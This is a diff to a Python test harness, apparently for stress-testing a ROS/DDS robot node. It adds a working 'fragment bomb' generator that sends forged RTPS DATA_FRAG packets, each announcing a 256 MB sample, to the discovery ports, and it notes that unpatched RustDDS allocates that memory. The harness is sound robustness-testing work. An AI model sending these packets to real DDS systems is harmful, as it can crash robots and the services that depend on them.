@@ -10,6 +10,9 @@ Usage: hostile.py DOMAIN SECONDS. For SECONDS, at once:
   submessages whose length runs past the datagram, a DATA submessage with absurd offsets;
 - oversized samples: LaserScans of 2,000,000 ranges (8 MB) on /scan, and Images claiming
   4000x4000 pixels with 16 MB of data on the depth topic;
+- fragment bombs: 1 kB DATA_FRAG datagrams to the well-known builtin readers (SPDP, SEDP
+  publications and subscriptions) from participants nobody discovered, each announcing a
+  256 MB sample under a new sequence number (unpatched RustDDS allocated each in full);
 - a discovery flood: 16 participants with a writer each created and deleted over and over.
 Prints one JSON object: every command received (time, v, w) and the phase bounds.
 """
@@ -98,6 +101,29 @@ def garbage_rtps():
         time.sleep(0.002)
 
 
+def fragment_bombs():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP)
+    base = 7400 + 250 * domain
+    ports = [base + 10 + 2 * i + k for i in range(6) for k in (0, 1)]
+    # (reader, writer) entity ids: SPDP, SEDP publications, SEDP subscriptions.
+    pairs = [("000100c7", "000100c2"), ("000003c7", "000003c2"), ("000004c7", "000004c2")]
+    header = b"RTPS" + bytes([2, 3, 1, 15]) + os.urandom(12)
+    sn = 0
+    while not stop.is_set():
+        sn += 1
+        for reader, writer in pairs:
+            body = struct.pack("<HH", 0, 28) + bytes.fromhex(reader) + bytes.fromhex(writer)
+            body += struct.pack("<iI", 0, sn) + struct.pack("<IHHI", 1, 1, 1024, 256 << 20)
+            body += os.urandom(1024)
+            pkt = header + bytes([0x16, 0x01]) + struct.pack("<H", len(body)) + body
+            for p in ports:
+                try:
+                    s.sendto(pkt, ("127.0.0.1", p))
+                except OSError:
+                    pass
+        time.sleep(0.01)
+
+
 def oversized():
     p = DomainParticipant(domain)
     big_scan = writer(p, "/scan", LaserScan, SENSOR_DATA)
@@ -125,7 +151,7 @@ threading.Thread(target=robot, daemon=True).start()
 # Let the node drive on good data first.
 time.sleep(3.0)
 calm_end = time.time()
-for f in (garbage_rtps, oversized, flood):
+for f in (garbage_rtps, fragment_bombs, oversized, flood):
     threading.Thread(target=f, daemon=True).start()
 time.sleep(seconds)
 stop.set()
